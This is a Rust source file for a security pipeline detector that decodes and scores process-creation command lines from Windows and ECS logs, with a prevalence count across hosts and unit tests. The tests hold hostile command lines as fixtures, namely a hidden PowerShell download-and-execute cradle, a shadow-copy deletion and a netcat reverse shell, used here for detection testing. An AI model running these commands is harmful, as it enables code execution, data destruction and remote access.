//! Payload analysis as a pipeline detector: the command line of every process-creation
//! event (Sysmon event 1, Security 4688, ECS `process.command_line` of a process start) is
//! decoded and scored statically; a verdict at the pipeline's alert level becomes a
//! `payload` alert about the event, and the rule alerts the same event raised carry the
//! verdict as an anomaly. Command lines repeat (services, scheduled jobs), so verdicts are
//! kept per distinct command line in a bounded cache. Most command lines are only scored
//! ([`Analyzer::triage`]); the few that alert are explained too, with the same score.
//!
//! A command line many hosts start is common here ([`super::prevalence`]): it alerts on
//! what its signatures and rules say it does, not on how the learned model finds it looks.

use std::collections::HashMap;
use std::sync::Arc;

use warden_event::winlog::WinDoc;
use warden_event::{
    Anomaly, AnomalyType, DetectorKind, EventRef, Input, Record, ThreatLevel, Timestamp,
};
use warden_payload::alert::{Origin, to_alert};
use warden_payload::{Analyzer, Shell, Triage, Verdict, Views};

use super::prevalence::{Prevalence, RestoreError};
use super::{Cx, Detector, Findings};

/// Distinct hosts after which a command line is common (`Teams.exe` on every
/// workstation), unless set otherwise.
pub const DEFAULT_COMMON_AT: usize = 20;

/// Distinct command lines whose verdicts are kept.
const CACHE: usize = 8192;
/// Longest command line analysed (Windows allows 32,767 characters).
const MAX_COMMAND: usize = 64 << 10;

/// Where the analyser comes from: fixed, or the service's (which swaps models).
pub trait AnalyzerSource: Send + Sync {
    fn analyzer(&self) -> Arc<Analyzer>;
}

impl AnalyzerSource for Arc<Analyzer> {
    fn analyzer(&self) -> Arc<Analyzer> {
        self.clone()
    }
}

/// Scores the command lines of process creations.
pub struct PayloadDetector {
    source: Arc<dyn AnalyzerSource>,
    /// The analyser the cache was filled with (a swap empties it).
    current: Option<Arc<Analyzer>>,
    /// Per shell, per command line (looked up by `&str`: no copy of the command per event).
    cache: HashMap<Option<Shell>, HashMap<String, Judged>>,
    /// The lowest verdict that becomes an alert (and the pipeline's level, whichever is
    /// higher): process creations are many, and a MEDIUM command line (discovery, say) is
    /// an anomaly on the event's other alerts, not an alert of its own.
    min_level: ThreatLevel,
    /// On how many hosts each command line has been started.
    prevalence: Prevalence,
}

impl std::fmt::Debug for PayloadDetector {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PayloadDetector")
            .field(
                "cached",
                &self.cache.values().map(HashMap::len).sum::<usize>(),
            )
            .finish()
    }
}

/// A command line's verdict, as far as it was needed.
#[derive(Debug, Clone)]
enum Judged {
    /// Scored: it did not alert (yet).
    Scored(Triage),
    /// Explained, for an alert.
    Explained(Arc<Verdict>),
}

impl Judged {
    fn triage(&self) -> Triage {
        match self {
            Judged::Scored(t) => *t,
            Judged::Explained(v) => Triage::from(v.as_ref()),
        }
    }
}

/// A process creation: the command line, the shell its image says, who and where.
#[derive(Debug, Clone, PartialEq)]
pub struct ProcessStart {
    pub command: String,
    pub shell: Option<Shell>,
    pub user: Option<String>,
    pub host: Option<String>,
    pub time: Option<Timestamp>,
    pub record_id: Option<u64>,
}

impl PayloadDetector {
    pub fn new(source: Arc<dyn AnalyzerSource>) -> Self {
        PayloadDetector {
            source,
            current: None,
            cache: HashMap::new(),
            min_level: ThreatLevel::High,
            prevalence: Prevalence::new(DEFAULT_COMMON_AT),
        }
    }

    /// A command line started on `hosts` distinct hosts is common (0: none ever is).
    pub fn with_common_at(mut self, hosts: usize) -> Self {
        self.prevalence = Prevalence::new(hosts);
        self
    }

    /// Counts on from a saved prevalence table, with this detector's threshold (so after
    /// [`PayloadDetector::with_common_at`]).
    pub fn restore_prevalence(&mut self, saved: &[u8]) -> Result<(), RestoreError> {
        self.prevalence = Prevalence::restore(saved, self.prevalence.common_at())?;
        Ok(())
    }

    /// The prevalence table to save, when it changed since the last one.
    pub fn prevalence_snapshot(&mut self) -> Option<Vec<u8>> {
        self.prevalence
            .changed()
            .then(|| self.prevalence.snapshot())
    }

    /// Alerts from `level` up (HIGH by default).
    pub fn with_min_level(mut self, level: ThreatLevel) -> Self {
        self.min_level = level;
        self
    }

    /// The analyser to use now; a swapped one empties the cache (its verdicts were another
    /// model's).
    fn analyzer(&mut self) -> Arc<Analyzer> {
        let analyzer = self.source.analyzer();
        if !self
            .current
            .as_ref()
            .is_some_and(|c| Arc::ptr_eq(c, &analyzer))
        {
            self.cache.clear();
            self.current = Some(analyzer.clone());
        }
        analyzer
    }

    fn cached(&self, p: &ProcessStart) -> Option<&Judged> {
        self.cache
            .get(&p.shell)
            .and_then(|m| m.get(p.command.as_str()))
    }

    fn keep(&mut self, p: &ProcessStart, judged: Judged) {
        let known = self.cached(p).is_some();
        if !known && self.cache.values().map(HashMap::len).sum::<usize>() >= CACHE {
            self.cache.clear();
        }
        self.cache
            .entry(p.shell)
            .or_default()
            .insert(p.command.clone(), judged);
    }

    /// The command line's score, level, action and views.
    fn triage(&mut self, p: &ProcessStart) -> Triage {
        let analyzer = self.analyzer();
        if let Some(j) = self.cached(p) {
            return j.triage();
        }
        let t = analyzer.triage(&p.command, p.shell);
        self.keep(p, Judged::Scored(t));
        t
    }

    /// The command line's whole verdict, explained (for an alert).
    fn explained(&mut self, p: &ProcessStart) -> Arc<Verdict> {
        let analyzer = self.analyzer();
        if let Some(Judged::Explained(v)) = self.cached(p) {
            return v.clone();
        }
        let v = Arc::new(analyzer.analyze(&p.command, p.shell));
        self.keep(p, Judged::Explained(v.clone()));
        v
    }
}

impl PayloadDetector {
    /// The level of a verdict from its signature view (signatures and Sigma rules) alone;
    /// the pipeline's verdicts have no sandbox view.
    fn level_without_model(&self, level: ThreatLevel, views: &Views) -> ThreatLevel {
        let Some(a) = &self.current else {
            return level;
        };
        let c = a.config();
        c.level(views.without_model(c))
    }
}

/// The process creation a log event records, if it records one.
pub fn process_start(doc: &serde_json::Value) -> Option<ProcessStart> {
    if let Some(cmd) = doc
        .get("process")
        .and_then(|p| p.get("command_line"))
        .and_then(|c| c.as_str())
    {
        let started = doc
            .get("event")
            .and_then(|e| e.get("type"))
            .is_some_and(|t| {
                t.as_str() == Some("start")
                    || t.as_array().is_some_and(|a| a.iter().any(|x| x == "start"))
            });
        if !started {
            return None;
        }
        let text = |path: &[&str]| {
            path.iter()
                .try_fold(doc, |v, k| v.get(*k))
                .and_then(|v| v.as_str())
                .map(str::to_string)
        };
        return start(
            cmd,
            text(&["process", "executable"]).as_deref(),
            text(&["user", "name"]),
            text(&["host", "name"]),
            text(&["@timestamp"]).and_then(|t| Timestamp::parse_rfc3339(&t)),
            None,
        );
    }
    let w = WinDoc::new(doc);
    let sysmon = w.channel().contains("Sysmon") || w.provider().contains("Sysmon");
    match w.event_id()? {
        1 if sysmon => {}
        4688 if !sysmon => {}
        _ => return None,
    }
    let cmd = w
        .data("CommandLine")
        .or_else(|| w.data("ProcessCommandLine"))?;
    let image = w.data("Image").or_else(|| w.data("NewProcessName"));
    let user = w
        .data("User")
        .or_else(|| w.data("SubjectUserName"))
        .filter(|u| !u.is_empty() && u != "-");
    start(
        &cmd,
        image.as_deref(),
        user,
        w.computer(),
        w.time(),
        w.record_id(),
    )
}

fn start(
    cmd: &str,
    image: Option<&str>,
    user: Option<String>,
    host: Option<String>,
    time: Option<Timestamp>,
    record_id: Option<u64>,
) -> Option<ProcessStart> {
    if cmd.trim().is_empty() {
        return None;
    }
    let name = image
        .map(|i| {
            i.rsplit(['\\', '/'])
                .next()
                .unwrap_or(i)
                .to_ascii_lowercase()
        })
        .unwrap_or_default();
    let shell = match name.as_str() {
        "powershell.exe" | "pwsh.exe" | "powershell_ise.exe" | "pwsh" => Some(Shell::Powershell),
        "cmd.exe" => Some(Shell::Cmd),
        "bash" | "dash" | "sh" | "zsh" => Some(Shell::Bash),
        _ => None,
    };
    Some(ProcessStart {
        command: warden_payload::cut(cmd, MAX_COMMAND).to_string(),
        shell,
        user,
        host,
        time,
        record_id,
    })
}

impl Detector for PayloadDetector {
    fn kind(&self) -> DetectorKind {
        DetectorKind::Payload
    }

    fn process(&mut self, input: &Input, cx: &Cx<'_>, out: &mut Findings) {
        let Record::Log(e) = &input.record else {
            return;
        };
        let Some(p) = process_start(&e.doc) else {
            return;
        };
        let v = self.triage(&p);
        if v.level < ThreatLevel::Medium {
            return;
        }
        let hosts = self.prevalence.observe(
            p.shell.map_or("-", Shell::as_str),
            &p.command,
            p.host.as_deref(),
        );
        let common = self.prevalence.is_common(hosts);
        // A common command line alerts on what it does (its signatures and rules), not on
        // how it looks to the learned model.
        let level = if common {
            self.level_without_model(v.level, &v.views)
        } else {
            v.level
        };
        // The rule alerts of this event say what payload analysis made of its command line.
        let mut detail = format!(
            "payload analysis of the command line: {} ({:.0}/100, {:?})",
            v.level.as_str(),
            v.score,
            v.action
        );
        if common {
            detail.push_str(&format!("; common here: started on at least {hosts} hosts"));
        }
        let note = Anomaly {
            kind: AnomalyType::MaliciousCommand,
            confidence: (v.score / 100.0).clamp(0.0, 1.0),
            contribution: 0.0,
            detail,
        };
        for a in out
            .alerts
            .iter_mut()
            .filter(|a| a.detector.kind == DetectorKind::Sigma)
        {
            a.anomalies.push(note.clone());
        }
        if !cx.alerts_at(level) || level < self.min_level {
            return;
        }
        let time = p
            .time
            .or_else(|| e.timestamp_ms.map(Timestamp))
            .unwrap_or(cx.now);
        let origin = Origin {
            tenant: cx.tenant,
            timestamp: time.to_rfc3339(),
            user: p.user.as_deref(),
            host: p.host.as_deref(),
            job: None,
            event: p
                .record_id
                .or(e.record_id)
                .map(|record_id| EventRef::Record {
                    computer: p.host.clone(),
                    record_id,
                }),
        };
        let mut alert = to_alert(&self.explained(&p), &p.command, &origin);
        // The same command line at another time or place is another alert.
        alert.digest = Some(warden_event::content_digest(&[
            &origin.timestamp,
            p.host.as_deref().unwrap_or(""),
            p.user.as_deref().unwrap_or(""),
        ]));
        out.alerts.push(alert);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::{Pipeline, PipelineOptions};
    use serde_json::json;
    use warden_payload::VerdictConfig;

    fn sysmon(cmd: &str, image: &str, record: u64) -> Input {
        sysmon_on("ws-17.corp", cmd, image, record)
    }

    fn sysmon_on(host: &str, cmd: &str, image: &str, record: u64) -> Input {
        let doc = json!({"Event": {
            "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                       "Computer": host, "EventRecordID": record,
                       "TimeCreated": {"#attributes": {"SystemTime": "2026-12-03T10:00:00.000Z"}}},
            "EventData": {"CommandLine": cmd, "Image": image, "User": "CORP\\alice"}}});
        Input {
            record: Record::Log(warden_event::LogEvent {
                doc,
                record_id: Some(record),
                source: None,
                line: None,
                timestamp_ms: None,
            }),
            size: 100,
        }
    }

    fn pipeline() -> Pipeline {
        with(PayloadDetector::new(Arc::new(Arc::new(Analyzer::new(
            None,
            VerdictConfig::default(),
        )))))
    }

    fn with(detector: PayloadDetector) -> Pipeline {
        let mut p = Pipeline::new("t", PipelineOptions::default());
        p.add(Box::new(detector));
        p
    }

    /// An analyser whose learned model finds bare LOLBAS names malicious, as a model
    /// trained on command corpora does.
    fn model_that_fears_bare_names() -> Arc<Analyzer> {
        use warden_payload::{features, train};
        let plain = Analyzer::new(None, VerdictConfig::default());
        let set = features::FeatureSet {
            bits: 12,
            ..features::FeatureSet::default()
        };
        let bad = [
            "teams.exe",
            "wab.exe",
            "stordiag.exe",
            "write.exe",
            "fsi.exe",
        ];
        let good = [
            "git status",
            "ls -la /var/log",
            "cargo build --release",
            "df -h",
        ];
        let rows: Vec<_> = bad
            .iter()
            .map(|t| (*t, true))
            .chain(good.iter().map(|t| (*t, false)))
            .map(|(t, y)| (features::extract(&plain.examine(t, None), &set), y))
            .collect();
        let params = train::TrainParams {
            features: set,
            epochs: 5,
            validation_share: 0.0,
            ..Default::default()
        };
        let model = train::train(&rows, &params, "test").unwrap_or_else(|e| panic!("{e}"));
        Arc::new(Analyzer::new(
            Some(Arc::new(model)),
            VerdictConfig::default(),
        ))
    }

    /// Payload alerts when each of `hosts` starts `cmd` in turn.
    fn alerts_over_hosts(p: &mut Pipeline, cmd: &str, hosts: usize, first_record: u64) -> usize {
        let now = Timestamp::now();
        (0..hosts)
            .map(|h| {
                let e = sysmon_on(
                    &format!("ws-{h}.corp"),
                    cmd,
                    "C:\\Program Files\\x\\x.exe",
                    first_record + h as u64,
                );
                p.process(&[e], now).alerts.len()
            })
            .sum()
    }

    #[test]
    fn a_command_line_common_across_hosts_alerts_on_what_it_does_not_how_it_looks() {
        let analyzer = model_that_fears_bare_names();
        let looks = analyzer.analyze("Teams.exe", None);
        assert!(looks.level >= ThreatLevel::High, "{looks:?}");
        let source: Arc<dyn AnalyzerSource> = Arc::new(analyzer);
        let mut p = with(PayloadDetector::new(source.clone()).with_common_at(5));
        // The first four hosts alert; from the fifth on the line is common.
        assert_eq!(alerts_over_hosts(&mut p, "Teams.exe", 12, 100), 4);
        // A host that ran it before runs it again: still common.
        assert_eq!(alerts_over_hosts(&mut p, "Teams.exe", 1, 200), 0);
        // What a command does alerts on every host, however common.
        let wiper = "vssadmin.exe delete shadows /all /quiet";
        assert_eq!(alerts_over_hosts(&mut p, wiper, 12, 300), 12);
        // And with the count off, every host's start alerts.
        let mut off = with(PayloadDetector::new(source).with_common_at(0));
        assert_eq!(alerts_over_hosts(&mut off, "Teams.exe", 12, 100), 12);
    }

    /// An alert as the rules detector would have raised it for the same event.
    fn sigma_alert() -> warden_event::Alert {
        let mut p = pipeline();
        let e = sysmon(
            "vssadmin.exe delete shadows /all /quiet",
            "C:\\x\\vssadmin.exe",
            1,
        );
        let mut a = p.process(&[e], Timestamp::now()).alerts.remove(0).1;
        a.detector.kind = DetectorKind::Sigma;
        a.anomalies.clear();
        a
    }

    #[test]
    fn a_rule_alert_on_a_common_line_says_it_is_common() {
        let mut d = PayloadDetector::new(Arc::new(model_that_fears_bare_names())).with_common_at(2);
        let now = Timestamp::now();
        let opts = PipelineOptions::default();
        let cx = Cx {
            tenant: "t",
            now,
            options: &opts,
        };
        for (h, record) in [("a", 1), ("b", 2)] {
            let mut out = Findings::default();
            out.alerts.push(sigma_alert());
            d.process(
                &sysmon_on(h, "Teams.exe", "C:\\x\\Teams.exe", record),
                &cx,
                &mut out,
            );
            let notes: Vec<&str> = out.alerts[0]
                .anomalies
                .iter()
                .map(|a| a.detail.as_str())
                .collect();
            assert_eq!(notes.len(), 1, "{notes:?}");
            assert_eq!(
                notes[0].contains("common here: started on at least 2 hosts"),
                h == "b",
                "{notes:?}"
            );
        }
    }

    #[test]
    fn a_line_first_only_scored_is_explained_when_it_alerts() {
        let mut d = PayloadDetector::new(Arc::new(model_that_fears_bare_names()));
        let now = Timestamp::now();
        let quiet = PipelineOptions {
            alert_level: ThreatLevel::Critical,
            ..PipelineOptions::default()
        };
        let loud = PipelineOptions::default();
        let run = |d: &mut PayloadDetector, opts: &PipelineOptions, record: u64| {
            let cx = Cx {
                tenant: "t",
                now,
                options: opts,
            };
            let mut out = Findings::default();
            d.process(&sysmon("wab.exe", "C:\\x\\wab.exe", record), &cx, &mut out);
            out.alerts
        };
        // HIGH, not CRITICAL: scored and kept, nothing raised, nothing explained yet.
        let scored = d.source.analyzer().triage("wab.exe", None);
        assert_eq!(scored.level, ThreatLevel::High, "{scored:?}");
        assert!(run(&mut d, &quiet, 1).is_empty());
        assert!(matches!(
            d.cache.values().next().and_then(|m| m.get("wab.exe")),
            Some(Judged::Scored(_))
        ));
        // The same line where HIGH alerts: the alert carries the whole verdict, explained,
        // with the score the line was triaged with.
        let alerts = run(&mut d, &loud, 2);
        assert_eq!(alerts.len(), 1);
        let a = &alerts[0];
        assert_eq!(a.score, (scored.score * 10.0).round() / 10.0);
        assert!(
            a.explanation.contains("The model rates it"),
            "{}",
            a.explanation
        );
        assert!(matches!(
            d.cache.values().next().and_then(|m| m.get("wab.exe")),
            Some(Judged::Explained(_))
        ));
        // Explained once: the next start reuses it.
        assert_eq!(run(&mut d, &loud, 3).len(), 1);
    }

    #[test]
    fn a_malicious_process_creation_raises_a_payload_alert() {
        let mut p = pipeline();
        let now = Timestamp::now();
        let out = p.process(
            &[
                sysmon(
                    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    41,
                ),
                sysmon("C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\svchost.exe", 42),
            ],
            now,
        );
        assert_eq!(out.alerts.len(), 1, "{:?}", out.alerts);
        let (i, a) = &out.alerts[0];
        assert_eq!(*i, 0);
        assert_eq!(a.channel(), "payload");
        assert_eq!(a.subject, "CORP\\alice");
        assert_eq!(a.timestamp, "2026-12-03T10:00:00Z");
        assert!(a.attack.iter().any(|t| t == "T1105"), "{:?}", a.attack);
        assert!(matches!(
            a.evidence[0].reference,
            EventRef::Record { record_id: 41, .. }
        ));
    }

    #[test]
    fn other_events_and_shapes() {
        // Not a process creation.
        let doc = json!({"Event": {"System": {"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational"},
                                   "EventData": {"CommandLine": "nc -e /bin/sh 1.2.3.4 4444"}}});
        assert!(process_start(&doc).is_none());
        // Security 4688 and ECS.
        let doc = json!({"EventID": 4688, "Channel": "Security", "Hostname": "dc1",
                         "CommandLine": "cmd.exe /c whoami", "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
                         "SubjectUserName": "bob"});
        let p = process_start(&doc).unwrap_or_else(|| panic!());
        assert_eq!(
            (p.shell, p.user.as_deref(), p.host.as_deref()),
            (Some(Shell::Cmd), Some("bob"), Some("dc1"))
        );
        let doc = json!({"@timestamp": "2026-12-03T10:00:00Z", "event": {"type": ["start"]},
                         "process": {"command_line": "bash -c 'id'", "executable": "/usr/bin/bash"},
                         "host": {"name": "web-1"}, "user": {"name": "www-data"}});
        let p = process_start(&doc).unwrap_or_else(|| panic!());
        assert_eq!(
            (p.shell, p.host.as_deref()),
            (Some(Shell::Bash), Some("web-1"))
        );
        let doc = json!({"event": {"type": ["end"]}, "process": {"command_line": "x"}});
        assert!(process_start(&doc).is_none());
    }
}
